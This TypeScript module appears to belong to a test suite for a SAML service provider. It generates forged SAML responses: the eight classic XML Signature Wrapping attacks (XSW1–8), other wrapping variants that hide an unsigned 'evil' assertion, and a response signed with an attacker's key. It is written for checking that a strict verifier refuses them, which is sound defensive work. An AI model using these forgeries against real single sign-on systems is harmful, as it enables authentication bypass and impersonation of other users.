import { buildSamlResponseXml, randomSamlId, resolveOptions, toSamlResponse } from '../response.ts';
import { child, el, NS, signElement } from '../xml.ts';
import {
  type AttackOptions,
  evilCopy,
  evilNameIdOf,
  finish,
  genuine,
  impersonate,
  requireAttackerKeys,
  unsignedCopy,
} from './shared.ts';

/*
 * XML Signature Wrapping, the eight classic shapes of Somorovsky et al., "On Breaking SAML: Be
 * Whoever You Want to Be" (USENIX Security 2012), numbered as SAML Raider numbers them. In each
 * the signed original is still in the message, so a verifier that looks the reference up by ID
 * wherever it is finds a valid signature, while the SP reads a different, unsigned element that
 * names the evil user.
 *
 * XSW1–2 go after the Response signature: they start from a response whose Response alone is
 * signed. XSW3–8 go after the Assertion signature: they start from a response whose Assertion
 * alone is signed (no attacker can keep a Response signature valid while changing its content).
 * A strict SP refuses all eight for the missing signature alone; to prove the targeted check,
 * run each against an SP that requires only the targeted signature (see samlIdp.test.ts).
 */

/**
 * XSW1: an evil Response (new ID, evil assertion) that keeps the original Signature; a copy of
 * the original Response, without its signature, is put right after the Signature, inside.
 */
export function xsw1(opts: AttackOptions) {
  const { doc, response } = genuine(opts, { assertion: false, response: true });
  const signature = child(response, NS.ds, 'Signature');
  const original = unsignedCopy(response);
  response.setAttribute('ID', randomSamlId());
  impersonate(child(response, NS.saml, 'Assertion'), evilNameIdOf(opts));
  response.insertBefore(original, signature.nextSibling);
  return finish(doc);
}

/** XSW2: as XSW1, but the copy of the original Response goes before the Signature (detached). */
export function xsw2(opts: AttackOptions) {
  const { doc, response } = genuine(opts, { assertion: false, response: true });
  const signature = child(response, NS.ds, 'Signature');
  const original = unsignedCopy(response);
  response.setAttribute('ID', randomSamlId());
  impersonate(child(response, NS.saml, 'Assertion'), evilNameIdOf(opts));
  response.insertBefore(original, signature);
  return finish(doc);
}

/** XSW3: an unsigned evil Assertion (new ID) inserted before the signed original one. */
export function xsw3(opts: AttackOptions) {
  const { doc, response, assertion } = genuine(opts, { assertion: true, response: false });
  response.insertBefore(evilCopy(assertion, opts), assertion);
  return finish(doc);
}

/** XSW4: an unsigned evil Assertion takes the original's place and wraps the signed original. */
export function xsw4(opts: AttackOptions) {
  const { doc, response, assertion } = genuine(opts, { assertion: true, response: false });
  const evil = evilCopy(assertion, opts);
  response.replaceChild(evil, assertion);
  evil.appendChild(assertion);
  return finish(doc);
}

/**
 * XSW5: the signed Assertion itself is changed to the evil user and given a new ID, keeping its
 * Signature; an unsigned copy of the original (which the reference resolves to) is appended at
 * the end of the Response.
 */
export function xsw5(opts: AttackOptions) {
  const { doc, response, assertion } = genuine(opts, { assertion: true, response: false });
  const original = unsignedCopy(assertion);
  assertion.setAttribute('ID', randomSamlId());
  impersonate(assertion, evilNameIdOf(opts));
  response.appendChild(original);
  return finish(doc);
}

/**
 * XSW6: as XSW5, but the unsigned copy of the original goes inside the evil assertion's
 * Signature, after its KeyInfo.
 */
export function xsw6(opts: AttackOptions) {
  const { doc, assertion } = genuine(opts, { assertion: true, response: false });
  const original = unsignedCopy(assertion);
  assertion.setAttribute('ID', randomSamlId());
  impersonate(assertion, evilNameIdOf(opts));
  child(assertion, NS.ds, 'Signature').appendChild(original);
  return finish(doc);
}

/**
 * XSW7: an Extensions block before the signed Assertion carries an unsigned evil Assertion, for
 * SPs that read the first Assertion anywhere in the message. (The signed original stays where
 * it was: an SP reading only the verified assertion gets the original user.)
 */
export function xsw7(opts: AttackOptions) {
  const { doc, response, assertion } = genuine(opts, { assertion: true, response: false });
  const extensions = el(doc, NS.samlp, 'samlp:Extensions', {}, evilCopy(assertion, opts));
  response.insertBefore(extensions, child(response, NS.samlp, 'Status'));
  return finish(doc);
}

/**
 * XSW8: as XSW6, but the unsigned copy of the original goes in a ds:Object inside the evil
 * assertion's Signature (where XML-DSig allows arbitrary content).
 */
export function xsw8(opts: AttackOptions) {
  const { doc, assertion } = genuine(opts, { assertion: true, response: false });
  const original = unsignedCopy(assertion);
  assertion.setAttribute('ID', randomSamlId());
  impersonate(assertion, evilNameIdOf(opts));
  child(assertion, NS.ds, 'Signature').appendChild(el(doc, NS.ds, 'ds:Object', {}, original));
  return finish(doc);
}

/*
 * Wrapping around a response whose Response alone is signed (the SP accepts that signature as
 * covering its one assertion): the assertion swapped, a second one beside it, one hidden where
 * the Response's enveloped signature does not reach, or one outside the signed Response.
 */

/** The one assertion of a Response-signed response swapped for an evil copy (same ID). */
export function responseSignedAssertionSwapped(opts: AttackOptions) {
  const { doc, response, assertion } = genuine(opts, { assertion: false, response: true });
  response.replaceChild(evilCopy(assertion, opts, true), assertion);
  return finish(doc);
}

/** An evil assertion (new ID) added after the one assertion of a Response-signed response. */
export function responseSignedSecondAssertion(opts: AttackOptions) {
  const { doc, response, assertion } = genuine(opts, { assertion: false, response: true });
  response.appendChild(evilCopy(assertion, opts));
  return finish(doc);
}

/**
 * An evil assertion in a ds:Object of the Response's own Signature: the enveloped-signature
 * transform leaves the Signature out of the digest, so the Response's signature stays valid.
 * An SP that reads the verified bytes gets the genuine user; one that reads any Assertion of the
 * message gets the evil one. A message with a second Assertion anywhere is refused.
 */
export function assertionInResponseSignature(opts: AttackOptions) {
  const { doc, response, assertion } = genuine(opts, { assertion: false, response: true });
  child(response, NS.ds, 'Signature').appendChild(
    el(doc, NS.ds, 'ds:Object', {}, evilCopy(assertion, opts)),
  );
  return finish(doc);
}

/**
 * An evil assertion outside the signed Response: an unsigned wrapper Response whose Extensions
 * hold the genuine, Response-signed response, and whose own Assertion names the evil user.
 */
export function signedResponseInsideWrapper(opts: AttackOptions) {
  const { doc, response, assertion } = genuine(opts, { assertion: false, response: true });
  const wrapper = response.cloneNode(false) as typeof response;
  wrapper.setAttribute('ID', randomSamlId());
  for (const c of Array.from(response.childNodes)) {
    if (c.nodeType === 1 && (c as typeof response).localName === 'Issuer')
      wrapper.appendChild(c.cloneNode(true));
  }
  const status = child(response, NS.samlp, 'Status').cloneNode(true);
  const evil = evilCopy(assertion, opts);
  doc.replaceChild(wrapper, response);
  wrapper.appendChild(el(doc, NS.samlp, 'samlp:Extensions', {}, response));
  wrapper.appendChild(status);
  wrapper.appendChild(evil);
  return finish(doc);
}

/**
 * An assertion-signed response whose Response carries a signature of the attacker's key (with
 * the attacker's certificate in KeyInfo). The assertion's signature is genuine; a signature
 * present on the message that does not verify with the team's certificate is refused all the
 * same, rather than ignored.
 */
export function responseSignedByUntrustedKey(opts: AttackOptions) {
  const o = resolveOptions({ ...opts, signAssertion: true, signResponse: false });
  const attacker = requireAttackerKeys(opts);
  return toSamlResponse(
    signElement(buildSamlResponseXml(o), o.responseId, {
      privateKeyPem: attacker.privateKeyPem,
      keyInfoCertificatePem: attacker.certificatePem,
    }),
  );
}
